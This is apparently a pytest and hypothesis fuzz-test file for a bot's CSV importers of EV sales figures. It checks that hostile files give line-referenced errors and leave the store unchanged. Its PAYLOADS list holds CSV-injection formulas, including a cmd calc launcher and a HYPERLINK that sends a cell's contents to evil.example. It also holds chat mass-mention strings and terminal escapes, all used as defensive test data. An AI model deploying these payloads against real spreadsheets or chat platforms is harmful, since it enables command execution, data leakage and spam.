"""Hostile files through the importers: every input ends in a report or an `ImportFailed` whose
problems say `FILE:LINE: reason`, never a traceback or a hang, and a failed import writes nothing.
"""

from __future__ import annotations

import asyncio
import codecs
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.domain.records import ImportFailed
from bot.domain.settings import SourceConfig, default_config
from bot.ingest.canonical import parse_canonical
from bot.ingest.fields import MAX_FIELD
from bot.ingest.iea import parse_iea
from bot.ingest.importer import ImportReport, import_file
from bot.ingest.lines import MAX_LINE
from bot.ingest.mapped import parse_mapped
from bot.ingest.table import Parsed
from bot.store.sqlite.sales import SqliteStore
from tests.hostile.support import FUZZ, table_counts

HEADER = "period,region,make,model,units,powertrain,source,cumulative"
GOOD_ROW = "2020-01,World,Nissan,Leaf,100,BEV,,false"
# What spreadsheets run (CSV injection) and what chat platforms parse: data, never behaviour.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "@everyone",
    "@here",
    "<@123456789012345678>",
    "<@&111>",
    "<!channel>",
    "<!here|here>",
    "<!subteam^S123>",
    "<#C123>",
    "<https://evil.example|click>",
    "[click](https://evil.example)",
    "**bold** __u__ ~~s~~ `code` ||spoiler||",
    "```\ncode\n```",
    "> quoted",
    "# Heading",
    "\x1b[31mred\x1b[0m",
    "\u202eevil\u202c",
    "a\u2028b",
    "💥" * 10,
    "ＮＩＳＳＡＮ",
]
MAPPED = SourceConfig(
    name="mapped",
    columns={"period": "Month", "region": "Country", "make": "Brand", "units": "Sold"},
    constants={"model": ""},
)
LINE_REF = re.compile(r"^.+:\d+: .+|^\.\.\. and \d+ more problems$|^.+: no figures to import")


@pytest.fixture
def store_path(tmp_path: Path, runner: asyncio.Runner) -> Iterator[tuple[SqliteStore, Path]]:
    """A store holding one good import, so that a partial write would show in the counts."""
    db = tmp_path / "fuzz.sqlite3"
    store = SqliteStore(db)
    runner.run(store.open())
    good = tmp_path / "good.csv"
    good.write_text(f"{HEADER}\n{GOOD_ROW}\n", encoding="utf-8")
    runner.run(import_file(store, default_config(), good, source="good"))
    yield store, db
    runner.run(store.close())


def _check_failure(exc: ImportFailed) -> None:
    assert exc.problems, "an ImportFailed with no problem says nothing"
    for problem in exc.problems:
        assert LINE_REF.match(problem), f"not FILE:LINE: reason: {problem!r}"


def _import(
    runner: asyncio.Runner, store: SqliteStore, db: Path, path: Path, fmt: str
) -> ImportReport | None:
    """Import; on failure check the error and that nothing changed. None when it failed."""
    config = default_config()
    if fmt == "mapped":
        config = replace(config, sources={"mapped": MAPPED})
    before = table_counts(db)
    try:
        report = runner.run(
            import_file(
                store, config, path, source="mapped" if fmt == "mapped" else "fuzz", fmt=fmt
            )
        )
    except ImportFailed as exc:
        _check_failure(exc)
        assert table_counts(db) == before, "a failed import changed the store"
        return None
    return report


# -- random bytes -----------------------------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=4_000), fmt=st.sampled_from(["canonical", "iea", "mapped"]))
def test_random_bytes_end_in_a_report_or_a_clear_error(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    data: bytes,
    fmt: str,
) -> None:
    store, db = store_path
    path = tmp_path / "random.csv"
    path.write_bytes(data)
    _import(runner, store, db, path, fmt)


@FUZZ
@given(
    prefix=st.binary(max_size=200),
    body=st.binary(max_size=2_000),
)
def test_random_bytes_after_a_valid_header(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    prefix: bytes,
    body: bytes,
) -> None:
    store, db = store_path
    path = tmp_path / "header.csv"
    path.write_bytes(f"{HEADER}\n{GOOD_ROW}\n".encode() + prefix + b"\n" + body)
    _import(runner, store, db, path, "canonical")


# -- structured rows with hostile values --------------------------------------------------------

_cell = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
    st.sampled_from(["", " ", "0", "-1", "1e9", "NaN", "inf", "9" * 40, "1,000", "٣"]),
)


_units_cell = st.one_of(st.integers(0, 10**6).map(str), st.integers(0, 10**20).map(str), _cell)
_period = st.one_of(
    st.sampled_from(["2020-01", "2020", "2020-02-30", "0000-01", "2020-13", "9999-12", ""]),
    st.text(max_size=12),
)


@st.composite
def canonical_rows(draw: st.DrawFn) -> list[list[str]]:
    n = draw(st.integers(1, 12))
    return [
        [
            draw(_period),
            draw(st.one_of(st.just("World"), _cell)),
            draw(st.one_of(st.just("Nissan"), _cell)),
            draw(st.one_of(st.just("Leaf"), _cell)),
            draw(_units_cell),
            draw(st.one_of(st.sampled_from(["BEV", "PHEV", ""]), _cell)),
            draw(st.one_of(st.just(""), _cell)),
            draw(st.one_of(st.sampled_from(["false", "true"]), _cell)),
        ]
        for _ in range(n)
    ]


def _csv_text(rows: list[list[str]]) -> str:
    import csv
    import io

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(HEADER.split(","))
    writer.writerows(rows)
    return out.getvalue()


@FUZZ
@given(
    rows=canonical_rows(),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "latin-1", "cp1252"]),
)
def test_hostile_values_in_every_column(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    rows: list[list[str]],
    encoding: str,
) -> None:
    store, db = store_path
    text = _csv_text(rows)
    path = tmp_path / "values.csv"
    path.write_bytes(text.encode(encoding, errors="replace"))
    report = _import(runner, store, db, path, "canonical")
    if report is not None:
        assert sum(s.records for s in report.summaries) >= 1


def test_formula_and_mention_payloads_are_stored_as_plain_labels(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    """A payload in a make or model is just a name: imported, kept verbatim (renderers make it
    inert), and never evaluated."""
    store, db = store_path
    rows = [
        ["2020-01", "World", "Evil", p, "5", "BEV", "", "false"]
        for p in PAYLOADS
        if "\n" not in p and "\u2028" not in p and "\x1b" not in p
    ]
    path = tmp_path / "payloads.csv"
    path.write_text(_csv_text(rows), encoding="utf-8")
    report = _import(runner, store, db, path, "canonical")
    assert report is not None
    assert report.summaries[0].records == len(rows)


def test_control_characters_are_refused_where_they_are(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    """A terminal escape in a name is no label: refused with its line and column, like a NUL."""
    store, db = store_path
    path = tmp_path / "escape.csv"
    path.write_text(
        _csv_text([["2020-01", "World", "Evil", "\x1b[31mred", "5", "BEV", "", "false"]]),
        encoding="utf-8",
    )
    before = table_counts(db)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    assert info.value.problems == [f"{path}:2: control character U+001B at column 20"]
    assert table_counts(db) == before


@st.composite
def iea_rows(draw: st.DrawFn) -> list[list[str]]:
    wanted = ["Historical", "EV sales", "Cars", "Vehicles"]
    rows = []
    for _ in range(draw(st.integers(1, 10))):
        category, parameter, mode, unit = (draw(st.one_of(st.just(w), _cell)) for w in wanted)
        rows.append(
            [
                draw(st.one_of(st.sampled_from(["World", "Norway", "EU27"]), _cell)),
                category,
                parameter,
                mode,
                draw(st.one_of(st.sampled_from(["BEV", "PHEV", "FCEV"]), _cell)),
                draw(st.one_of(st.sampled_from(["2015", "2023", "0", "99999"]), _period)),
                unit,
                draw(
                    st.one_of(
                        st.floats(allow_nan=True, allow_infinity=True).map(repr),
                        st.sampled_from(["1e14", "1e309", "-0", "0x10", "1_000", "", "١٢"]),
                        _cell,
                    )
                ),
            ]
        )
    return rows


@FUZZ
@given(rows=iea_rows())
def test_hostile_values_in_an_iea_export(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    rows: list[list[str]],
) -> None:
    import csv
    import io

    store, db = store_path
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(
        ["region", "category", "parameter", "mode", "powertrain", "year", "unit", "value"]
    )
    writer.writerows(rows)
    path = tmp_path / "iea.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    _import(runner, store, db, path, "iea")


# -- encodings and BOMs -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "bom,encoding,ok",
    [
        (codecs.BOM_UTF8, "utf-8", True),
        (b"", "utf-8", True),
        (codecs.BOM_UTF16_LE, "utf-16-le", True),  # Excel's "Unicode text"
        (codecs.BOM_UTF16_BE, "utf-16-be", True),
        (codecs.BOM_UTF32_LE, "utf-32-le", False),
        (b"", "latin-1", True),  # ASCII content decodes either way
    ],
)
def test_boms_and_encodings(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    bom: bytes,
    encoding: str,
    ok: bool,
) -> None:
    store, db = store_path
    path = tmp_path / "bom.csv"
    path.write_bytes(bom + f"{HEADER}\n2021-03,World,Renault,Zoe,7,BEV,,false\n".encode(encoding))
    report = _import(runner, store, db, path, "canonical")
    assert (report is not None) is ok


def test_latin1_bytes_in_a_utf8_file_name_the_line_and_column(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, _db = store_path
    path = tmp_path / "latin.csv"
    path.write_bytes(
        f"{HEADER}\n{GOOD_ROW}\n".encode()
        + "2020-02,Québec,Nissan,Leaf,3,BEV,,false\n".encode("latin-1")
    )
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    assert any(p.startswith(f"{path}:3: undecodable bytes at column") for p in info.value.problems)


# -- size of fields and of rows -----------------------------------------------------------------


def test_a_huge_field_is_refused_with_its_line(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, db = store_path
    path = tmp_path / "huge.csv"
    path.write_text(
        f"{HEADER}\n{GOOD_ROW}\n2020-02,World,Nissan,{'L' * (MAX_FIELD + 1)},3,BEV,,false\n",
        encoding="utf-8",
    )
    before = table_counts(db)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    assert info.value.problems == [f"{path}:3: a field is longer than {MAX_FIELD} characters"]
    assert table_counts(db) == before


def test_a_field_past_the_csv_reader_limit_is_a_clear_error(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    """A 5 MB quoted field (an unclosed quote swallowing the file looks like this)."""
    store, db = store_path
    path = tmp_path / "giant.csv"
    path.write_text(f'{HEADER}\n{GOOD_ROW}\n2020-02,World,"{"x" * 5_000_000}",Leaf,3,BEV,,false\n')
    before = table_counts(db)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    _check_failure(info.value)
    assert any(":3: " in p for p in info.value.problems)
    assert table_counts(db) == before


def test_an_unclosed_quote_names_the_line_where_it_opened(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, _db = store_path
    path = tmp_path / "quote.csv"
    path.write_text(f'{HEADER}\n{GOOD_ROW}\n2020-02,World,"Nissan,Leaf,3,BEV,,false\n' + "x\n" * 50)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    assert any(p.startswith(f"{path}:3: ") for p in info.value.problems), info.value.problems


@pytest.mark.parametrize("columns", [1_000, 100_000, 1_000_000])
def test_very_many_columns(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path], columns: int
) -> None:
    """A header of 100,000 columns (a wide spreadsheet saved as CSV): refused, quickly, with the
    unknown column named, and the error does not repeat all of them."""
    store, db = store_path
    extra = ",".join(f"c{i}" for i in range(columns))
    path = tmp_path / "wide.csv"
    path.write_text(f"{HEADER},{extra}\n{GOOD_ROW}{',1' * columns}\n", encoding="utf-8")
    before = table_counts(db)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    if len(extra) > MAX_LINE:  # 7 MB on one line: no header reads that far
        assert info.value.problems == [f"{path}:1: line too long (more than 1,048,576 characters)"]
    else:
        assert info.value.problems == [
            f"{path}:1: unknown column 'c0' (the canonical columns are "
            "period, region, make, model, units, powertrain, source, cumulative)"
        ]
    assert table_counts(db) == before


def test_very_many_columns_in_the_data_rows_of_a_mapped_source(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, _db = store_path
    path = tmp_path / "ragged.csv"
    path.write_text("Month,Country,Brand,Sold\n2020-01,FR,Renault,5" + ",9" * 200_000 + "\n")
    with pytest.raises(ImportFailed) as info:
        runner.run(
            import_file(
                store,
                replace(default_config(), sources={"mapped": MAPPED}),
                path,
                source="mapped",
                fmt="mapped",
            )
        )
    assert info.value.problems == [f"{path}:2: expected 4 fields, found 200004"]


def test_ten_thousand_bad_rows_give_a_bounded_error(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, _db = store_path
    path = tmp_path / "bad.csv"
    path.write_text(HEADER + "\n" + "2020-01,World,Nissan,Leaf,-1,BEV,,false\n" * 10_000)
    with pytest.raises(ImportFailed) as info:
        runner.run(import_file(store, default_config(), path, source="fuzz"))
    assert len(info.value.problems) == 201
    assert info.value.problems[-1] == "... and 9800 more problems"


# -- the parsers alone, fast, many examples ----------------------------------------------------


@FUZZ
@given(text=st.text(max_size=3_000))
def test_parsers_never_raise_on_any_text(tmp_path: Path, text: str) -> None:
    path = tmp_path / "any.csv"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    parsers: list[Callable[[], Parsed]] = [
        lambda: parse_canonical(path, "x"),
        lambda: parse_iea(path, "iea"),
        lambda: parse_mapped(path, MAPPED),
    ]
    for parse in parsers:
        try:
            parsed = parse()
        except ImportFailed as exc:  # only an unreadable file raises
            _check_failure(exc)
            continue
        for problem in parsed.problems:
            assert LINE_REF.match(problem), problem


# -- figures past what any store or ladder can hold ------------------------------------------------


@pytest.mark.parametrize(
    "fmt,text",
    [
        ("canonical", f"period,region,make,model,units\n2020-01,World,Nissan,Leaf,{'9' * 40}\n"),
        (
            "iea",
            "region,category,parameter,mode,powertrain,year,unit,value\n"
            "World,Historical,EV sales,Cars,BEV,2020,Vehicles,1e20\n",
        ),
    ],
)
def test_a_figure_too_big_to_store_is_a_line_problem(
    tmp_path: Path,
    runner: asyncio.Runner,
    store_path: tuple[SqliteStore, Path],
    fmt: str,
    text: str,
) -> None:
    store, db = store_path
    path = tmp_path / "huge-figure.csv"
    path.write_text(text, encoding="utf-8")
    assert _import(runner, store, db, path, fmt) is None


def test_an_absurd_figure_is_refused_at_import(
    tmp_path: Path, runner: asyncio.Runner, store_path: tuple[SqliteStore, Path]
) -> None:
    store, db = store_path
    path = tmp_path / "absurd.csv"
    path.write_text(
        "period,region,make,model,units\n"
        "2020-01,World,Nissan,Leaf,9223372036854775000\n"
        "2020-02,World,Nissan,Leaf,9223372036854775000\n",
        encoding="utf-8",
    )
    assert _import(runner, store, db, path, "canonical") is None
